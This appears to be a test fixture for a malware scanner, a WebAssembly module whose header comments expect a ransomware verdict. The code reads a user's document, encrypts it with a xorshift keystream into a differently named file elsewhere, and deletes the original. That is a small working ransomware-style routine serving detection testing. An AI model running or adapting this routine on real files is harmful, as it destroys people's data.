;; RUN: spoor run % -q --fail-on never
;; WHAT: Encrypts one document into a file of another name in another folder, and deletes the document.
;; EXPECT: verdict=SUSPICIOUS|MALICIOUS family=ransomware rule=impact/ransomware file=/home/user/documents/report.txt:deleted
(module
  (import "wasi_snapshot_preview1" "path_open"
    (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_read" (func $fd_read (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))
  (memory (export "memory") 2)
  (data (i32.const 512) "home/user/documents/report.txt")
  (data (i32.const 576) "tmp/cache.bin")
  (func $open (param $path i32) (param $len i32) (param $flags i32) (result i32)
    (drop (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (local.get $flags)
      (i64.const 0x604056) (i64.const 0) (i32.const 0) (i32.const 12)))
    (i32.load (i32.const 12)))
  ;; One piece of memory, whose length stands at 8 afterwards.
  (func $piece (param $at i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $at))
    (i32.store (i32.const 4) (local.get $len)))
  ;; A stream of xorshift, one byte of each state.
  (func $crypt (param $at i32) (param $len i32) (local $i i32) (local $s i32)
    (local.set $s (i32.const 0x2545f491))
    (loop $byte
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 13))))
      (local.set $s (i32.xor (local.get $s) (i32.shr_u (local.get $s) (i32.const 17))))
      (local.set $s (i32.xor (local.get $s) (i32.shl (local.get $s) (i32.const 5))))
      (i32.store8 (i32.add (local.get $at) (local.get $i))
        (i32.xor (i32.load8_u (i32.add (local.get $at) (local.get $i))) (local.get $s)))
      (br_if $byte
        (i32.lt_u (local.tee $i (i32.add (local.get $i) (i32.const 1))) (local.get $len)))))
  (func (export "_start") (local $len i32)
    (call $piece (i32.const 4096) (i32.const 65536))
    (drop (call $fd_read (call $open (i32.const 512) (i32.const 30) (i32.const 0)) (i32.const 0) (i32.const 1)
      (i32.const 8)))
    (local.set $len (i32.load (i32.const 8)))
    (call $crypt (i32.const 4096) (local.get $len))
    (call $piece (i32.const 4096) (local.get $len))
    (drop (call $fd_write (call $open (i32.const 576) (i32.const 13) (i32.const 9))
      (i32.const 0) (i32.const 1) (i32.const 8)))
    (drop (call $unlink (i32.const 3) (i32.const 512) (i32.const 30)))))
